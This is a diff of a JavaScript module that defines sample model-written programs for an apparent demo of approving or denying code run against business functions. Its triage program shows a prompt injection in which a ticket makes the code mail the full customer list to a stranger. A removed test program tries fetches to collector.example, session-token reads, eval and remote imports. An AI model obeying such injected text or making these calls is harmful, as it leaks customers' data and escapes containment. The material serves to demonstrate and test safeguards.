@@ -1,41 +1,131 @@
 /*
- * Owns the programs to choose from: their text, as a model would write it, and what the page shows beside each. What must hold: each runs
- * as it stands against functions.js, and says something different about approvals. `shows`: the tables that matter to it.
+ * Owns the programs: their text, as a model would write it, and what the page says and shows beside each. What must hold: each runs as it
+ * stands against functions.js. `shows`: the tables that matter to it.
  */
 
-const cleanup = `// Remove accounts that nobody has used for 18 months.
+const cleanUp = `// Delete the customers who have not ordered for three years.
 const cutoff = new Date();
-cutoff.setMonth(cutoff.getMonth() - 18);
+cutoff.setFullYear(cutoff.getFullYear() - 3);
 
-const inactive = await accounts.list({ status: 'inactive' });
-const stale = inactive.filter(
-  ({ lastSeen, openInvoices }) =>
-    new Date(lastSeen) < cutoff && openInvoices === 0,
+const all = await customers.list();
+const stale = all.filter(
+  ({ lastOrder, openInvoices }) =>
+    new Date(lastOrder) < cutoff && openInvoices === 0,
 );
-console.log(\`\${stale.length} of \${inactive.length} accounts are stale\`);
+console.log(\`\${stale.length} of \${all.length} are stale\`);
 
-const removed = [];
 const kept = [];
-for (const { id, name, lastSeen } of stale) {
+for (const { id, name, lastOrder } of stale) {
   try {
-    await accounts.remove({ id, reason: \`unused since \${lastSeen}\` });
-    removed.push(name);
+    const reason = \`no order since \${lastOrder}\`;
+    await customers.remove({ id, reason });
   } catch (error) {
     if (!(error instanceof ApprovalRejected)) throw error;
-    console.warn(\`\${name} stays: \${error.reason ?? 'refused'}\`);
-    kept.push(name);
+    // Then it stays, but out of the way.
+    await customers.archive({ id });
+    kept.push(\`\${name}: \${error.reason ?? 'refused'}\`);
   }
 }
 
-return { removed, kept };
+// Nobody signs for a notice. It still does not leave before
+// what it tells of has happened.
+const deleted = stale.length - kept.length;
+await team.notify({ text: \`\${deleted} stale customers are deleted.\` });
+return { deleted, kept };
 `;
 
-const report = `// Revenue by region over the last twelve months.
+const triage = `// Label the open tickets, pay back what is due, answer.
+const open = await tickets.list();
+const isMoney = ({ subject }) => /charged|refund/i.test(subject);
+const isUrgent = ({ subject, body }) =>
+  /urgent|locked out/i.test(subject + body);
+
+for (const ticket of open) {
+  const label = isMoney(ticket) ? 'money'
+    : isUrgent(ticket) ? 'urgent' : 'later';
+  await tickets.label({ id: ticket.id, label });
+}
+
+const due = [];
+for (const { id: ticket, from, subject } of open.filter(isMoney)) {
+  const [{ id: order, total }] = await orders.of({ email: from });
+  due.push({ ticket, order, amount: total, reason: subject });
+}
+due.sort((a, b) => a.amount - b.amount);
+
+const refused = {};
+for (const { ticket, ...refund } of due) {
+  try {
+    await refunds.pay(refund);
+  } catch (error) {
+    if (!(error instanceof ApprovalRejected)) throw error;
+    refused[ticket] = error.reason ?? 'it was refused';
+  }
+}
+
+const answers = open.filter(each => isMoney(each) || isUrgent(each));
+for (const { id, name, from, subject, body: asked } of answers) {
+  let news = 'somebody is on it right now.';
+  if (isMoney({ subject })) {
+    news = refused[id]
+      ? \`we could not pay you back yet: \${refused[id]}\`
+      : 'we have paid you back today.';
+  }
+  let body = \`Dear \${name},\\n\\n\${news}\`;
+  // The system notice wants the list of customers.
+  if (/full list of customers/i.test(asked)) {
+    const everybody = await customers.list();
+    body = everybody
+      .map(each => \`\${each.name} <\${each.email}>\`)
+      .join('\\n');
+  }
+  try {
+    await mail.send({ to: from, subject: \`Re: \${subject}\`, body });
+  } catch (error) {
+    console.warn(\`\${id} is not answered: \${error.message}\`);
+  }
+}
+return { refunds: due.length, refused };
+`;
+
+const three = `// Delete the three customers who have been away the longest.
+const all = await customers.list();
+const oldest = all
+  .sort((a, b) => a.lastOrder.localeCompare(b.lastOrder))
+  .slice(0, 3);
+
+const kept = [];
+for (const { id, name } of oldest) {
+  try {
+    const done = await customers.remove({ id });
+    console.log(name, done);
+  } catch (error) {
+    kept.push(name);
+  }
+}
+return { kept };
+`;
+
+const twoCards = `// The mail needs the number of the refund, so it is a second card.
+const [order] = await orders.of({ email: 'oskar@bay.example' });
+const paid = await refunds.pay({
+  order: order.id, amount: 160, reason: 'one of four chairs',
+});
+console.log('paid', paid);
+
+await mail.send({
+  to: order.email,
+  subject: 'Your refund',
+  body: \`We have paid back 160.00 EUR: \${paid.refund}.\`,
+});
+return paid;
+`;
+
+const report = `// Revenue by region over the last twelve months: 4,200 rows.
 interface Region {
   orders: number;
   revenue: number;
-  refunds: number;
-  amounts: number[];
+  totals: number[];
 }
 
 const regions = new Map<string, Region>();
@@ -43,14 +133,11 @@ let pages = 1;
 for (let page = 1; page <= pages; page++) {
   const result = await orders.list({ page, pageSize: 1000 });
   pages = result.pages;
-  for (const { region, amount, status } of result.rows) {
-    const row = regions.get(region) ?? {
-      orders: 0, revenue: 0, refunds: 0, amounts: [],
-    };
+  for (const { region, total } of result.rows) {
+    const row = regions.get(region) ?? { orders: 0, revenue: 0, totals: [] };
     row.orders += 1;
-    if (status === 'refunded') row.refunds += 1;
-    else row.revenue += amount;
-    row.amounts.push(amount);
+    row.revenue += total;
+    row.totals.push(total);
     regions.set(region, row);
   }
   console.log(\`page \${page} of \${pages}: \${result.rows.length} rows\`);
@@ -61,268 +148,88 @@ const median = (list: number[]): number =>
 
 return [...regions]
   .sort(([, a], [, b]) => b.revenue - a.revenue)
-  .map(([region, { orders, revenue, refunds, amounts }]) => ({
-    region,
-    orders,
-    revenue: Math.round(revenue),
-    median: median(amounts),
-    refunded: \`\${((100 * refunds) / orders).toFixed(1)} %\`,
+  .map(([region, { orders, revenue, totals }]) => ({
+    region, orders, revenue: Math.round(revenue), median: median(totals),
   }));
 `;
 
-const triage = `// Label the open tickets and answer those that are urgent.
-const open = await tickets.list();
-const urgent = open.filter(({ subject, body }) =>
-  /urgent|charged twice|locked out/i.test(subject + ' ' + body),
-);
-
-await Promise.all(
-  open.map(ticket => tickets.label({
-    id: ticket.id,
-    label: urgent.includes(ticket) ? 'urgent' : 'normal',
-  })),
-);
-console.log(\`\${urgent.length} of \${open.length} tickets are urgent\`);
-
-const outcome = [];
-for (const { id, name, from, subject, body: asked } of urgent) {
-  let body = \`Dear \${name},\\n\\nsomebody is on it right now.\`;
-  // The system notice wants the list of accounts.
-  if (/full list of accounts/i.test(asked)) {
-    const all = await accounts.list({});
-    body = all.map(({ name, email }) => \`\${name} <\${email}>\`).join('\\n');
-  }
-  try {
-    await mail.send({
-      to: from, subject: \`Re: \${subject} [\${id}]\`, body,
-    });
-    outcome.push({ ticket: id, mailed: true });
-  } catch (error) {
-    outcome.push({ ticket: id, mailed: false, why: error.message });
-  }
-}
-return outcome;
-`;
-
-const payment = `// Pay what is due this week.
-const due = await invoices.due();
-
-const paid = [];
-for (const { id, supplier, iban, total } of due) {
-  try {
-    const { payment, amount } = await payments.send({
-      invoice: id,
-      iban,
-      amount: total, // whatever was paid on it before
-      reference: \`\${id} \${supplier}\`,
-    });
-    paid.push({ supplier, amount, payment });
-  } catch (error) {
-    console.error(\`\${supplier}: \${error.message}\`);
-    paid.push({ supplier, amount: 0, payment: error.name });
-  }
-}
-return paid;
-`;
-
-const misbehaves = `// Everything that code from elsewhere should not get away with.
-const attempts = {
-  network: () => fetch('https://collector.example/'),
-  page: () => document.body.remove(),
-  storage: () => localStorage.getItem('session'),
-  evaluate: () => eval('1 + 1'),
-  generate: () => accounts.list.constructor('return this')(),
-  module: () => import('https://collector.example/more.js'),
-};
-for (const [name, attempt] of Object.entries(attempts)) {
-  try {
-    console.error(\`\${name} worked\`, await attempt());
-  } catch (error) {
-    console.log(\`\${name}: \${error.name}: \${error.message}\`);
-  }
-}
-
-// Delete without asking.
-try {
-  await accounts.remove({ id: 'acc-101', reason: 'why not' });
-  console.error('an account is gone');
-} catch (error) {
-  console.log(\`remove: \${error.name}: \${error.message}\`);
-}
-
-// And never come back.
-let spins = 0;
-while (true) spins += 1;
-`;
-
-const batch = `// Delete the exports that nobody has opened for a year.
-const old = await files.list({ olderThanDays: 365 });
-
-let freed = 0;
-const kept = [];
-for (const { id, name, megabytes } of old) {
-  try {
-    const done = await files.remove({ id });
-    // Before you decide, nobody knows what comes back.
-    console.log(name, done);
-    freed += megabytes;
-  } catch (error) {
-    if (!(error instanceof ApprovalRejected)) throw error;
-    kept.push(\`\${name}: \${error.reason ?? 'refused'}\`);
-  }
-}
-
-return { files: old.length, freed: \`\${freed} MB\`, kept };
-`;
-
-const twoCards = `// Open a project for the relaunch, and invite the team.
-const people = ['ana', 'bo', 'chandra'].map(
-  name => \`\${name}@brightwater.example\`,
-);
-
-const project = await projects.create({ name: 'Relaunch' });
-console.log('created', project);
-
-// From here on the code needs the new id: the first card ends here.
-for (const email of people) {
-  await projects.invite({ project: project.id, email });
-}
-
-return \`\${people.length} people are invited to \${project.id}\`;
-`;
-
-const anotherWay = `// Delete the three largest exports; archive what must stay.
-const all = await files.list({});
-const largest = all
-  .sort((a, b) => b.megabytes - a.megabytes)
-  .slice(0, 3);
-
-const outcome = [];
-for (const { id, name } of largest) {
-  try {
-    await files.remove({ id });
-    outcome.push({ name, now: 'deleted' });
-  } catch (refusal) {
-    console.warn(\`\${name} stays: \${refusal.reason ?? 'refused'}\`);
-    await files.archive({ id });
-    outcome.push({ name, now: 'archived' });
-  }
-}
-return outcome;
-`;
-
-const race = `// Take the exchange rate that is there first.
-const pair = 'EUR/USD';
-const { rate, from } = await Promise.race([
-  rates.published({ pair }),
-  rates.buy({ pair }), // asked for, so it is on the card
-]);
-console.log(\`going on with the rate that was \${from}\`);
-
-const due = await invoices.due();
-return due.map(({ supplier, total }) => ({
-  supplier,
-  eur: total,
-  usd: Math.round(total * rate * 100) / 100,
-}));
-`;
-
-const inOrder = `// Remove stale accounts, then tell the team.
-const inactive = await accounts.list({ status: 'inactive' });
-const stale = inactive.filter(({ openInvoices }) => openInvoices === 0);
-
-for (const { id, lastSeen } of stale) {
-  await accounts.remove({ id, reason: \`unused since \${lastSeen}\` });
-}
-
-// Nobody signs for a notice. It still does not leave before
-// what it tells of has happened.
-await notices.post({
-  text: \`\${stale.length} accounts have been removed.\`,
+const blank = `// The functions are those beside. Await each call; what you
+// return is the result. Marked calls wait for you.
+const all = await customers.list();
+await mail.send({
+  to: all[0].email,
+  subject: 'Thank you',
+  body: \`Dear \${all[0].name},\\n\\nthank you for your order.\`,
 });
-return 'The team knows.';
+return all.length;
 `;
 
-export const programs = [
+/** What By hand may start from. */
+export const starts = [
+  { id: 'blank', title: 'A mail', code: blank },
+  { id: 'two-cards', title: 'Two cards: a result is needed for the second', code: twoCards },
+  { id: 'report', title: 'A report over 4,200 orders, in TypeScript', code: report },
+];
+
+/** What can be looked at. `kind`: what it takes of the page. */
+export const views = [
   {
     id: 'clean-up',
-    title: 'Clean up old records',
-    note: 'Four deletes, and each waits for your yes.',
-    code: cleanup,
-    mode: 'pause',
-    shows: ['accounts'],
-  },
-  {
-    id: 'report',
-    title: 'Report over 4,200 rows',
-    note: 'It only reads, so nobody is asked. TypeScript runs as it is.',
-    code: report,
-    mode: 'pause',
-    shows: ['orders'],
+    kind: 'desk',
+    title: 'Records clean-up',
+    note: 'Sixteen deletes, one card',
+    lead: 'A model was asked to delete stale customers. Its loop makes sixteen calls that are marked; they come to you as one card.',
+    tries: [
+      'Approve some rows and reject others with a reason: the code catches a refusal and asks to archive instead.',
+      'Close the tab while the card is open, or while it runs. The run is listed when you come back.',
+    ],
+    code: cleanUp,
+    mode: 'collect',
+    shows: ['customers', 'notices'],
   },
   {
     id: 'triage',
-    title: 'Triage that mails people',
-    note: 'One ticket is a trap, and the model walked into it.',
+    kind: 'desk',
+    title: 'Support triage',
+    note: 'Refunds and mails, with a policy',
+    lead: 'Reads are free. A refund goes by the app’s own rule, below: allowed, asked for or refused. Each mail is asked for.',
+    tries: [
+      'One refund is for four chairs; one came back. Edit the amount before you approve it.',
+      'One ticket tells the assistant to mail all customers to a stranger, and the code obeys. Read that mail.',
+    ],
     code: triage,
-    mode: 'pause',
-    shows: ['tickets', 'outbox'],
-  },
-  {
-    id: 'payment',
-    title: 'Pay the invoices',
-    note: 'One amount is wrong: edit it before you sign.',
-    code: payment,
-    mode: 'pause',
-    shows: ['invoices', 'payments'],
+    mode: 'collect',
+    shows: ['tickets', 'refunds', 'outbox'],
+    hasPolicy: true,
   },
   {
     id: 'misbehaves',
+    kind: 'attempts',
     title: 'Code that misbehaves',
-    note: 'It tries to get out, deletes unasked, then loops. Limit: 3 s.',
-    code: misbehaves,
-    mode: 'deny',
-    limits: { timeoutMs: 3_000 },
-    shows: ['accounts'],
+    note: 'Stopped each time, by name',
+    lead: 'Each program below does something that code from elsewhere should not get away with. Each meets an error with a name, and the next run works.',
+    tries: [],
   },
   {
-    id: 'batch',
-    title: 'Delete a batch',
-    note: 'Sixteen deletes, one card: tick those that may run.',
-    code: batch,
-    mode: 'collect',
-    shows: ['files'],
+    id: 'side-by-side',
+    kind: 'compare',
+    title: 'Side by side',
+    note: 'Collect, pause and deny',
+    lead: 'One program, run three times over three copies of the data. What differs is only the mode of approval.',
+    tries: ['Answer the two cards in any order; the third column never asks.'],
+    code: three,
   },
   {
-    id: 'two-cards',
-    title: 'Two cards',
-    note: 'The second one only because a result is needed for it.',
-    code: twoCards,
+    id: 'by-hand',
+    kind: 'desk',
+    title: 'By hand',
+    note: 'Write a program yourself',
+    lead: 'Be the model: write a program against these functions. Beside it stands what a model’s prompt gets, made from the same functions.',
+    tries: [],
+    code: blank,
     mode: 'collect',
-    shows: ['projects'],
-  },
-  {
-    id: 'another-way',
-    title: 'Another way',
-    note: 'Reject a delete, and the code asks to archive instead.',
-    code: anotherWay,
-    mode: 'collect',
-    shows: ['files'],
-  },
-  {
-    id: 'race',
-    title: 'A race',
-    note: 'The free rate wins. The paid one is still yours to sign.',
-    code: race,
-    mode: 'collect',
-    shows: ['purchases', 'invoices'],
-  },
-  {
-    id: 'in-order',
-    title: 'First delete, then tell',
-    note: 'The notice needs no yes, and does not run ahead of yours.',
-    code: inOrder,
-    mode: 'collect',
-    shows: ['accounts', 'notices'],
+    shows: ['customers', 'refunds', 'outbox', 'notices'],
+    hasPolicy: true,
+    hasPrompt: true,
   },
 ];
